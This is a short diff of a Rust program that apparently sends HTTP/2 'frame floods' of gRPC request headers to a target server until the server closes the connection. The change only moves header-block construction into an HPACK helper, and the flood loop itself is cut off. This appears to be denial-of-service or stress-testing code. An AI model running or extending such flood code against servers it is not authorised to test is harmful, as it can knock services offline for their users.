@@ -100,26 +100,9 @@ fn open(target: SocketAddr) -> std::io::Result<TcpStream> {
     Ok(s)
 }
 
-/// A request head, encoded without any table state.
-fn request_block(authority: &str) -> Vec<u8> {
-    let mut block = Vec::new();
-    for (n, v) in [
-        (":method", "POST"),
-        (":scheme", "http"),
-        (":path", PATH),
-        (":authority", authority),
-        ("content-type", "application/grpc"),
-        ("te", "trailers"),
-    ] {
-        hpack::raw::literal(&mut block, n.as_bytes(), v.as_bytes());
-    }
-    block
-}
-
-/// One connection of a frame flood, until the target closes it.
 fn flood(target: SocketAddr, authority: &str, kind: Kind) -> std::io::Result<()> {
     let mut s = open(target)?;
-    let head = request_block(authority);
+    let head = hpack::raw::request_head(authority, PATH);
     let mut stream = 1u32;
     let mut out = Vec::with_capacity(64 << 10);
     match kind {
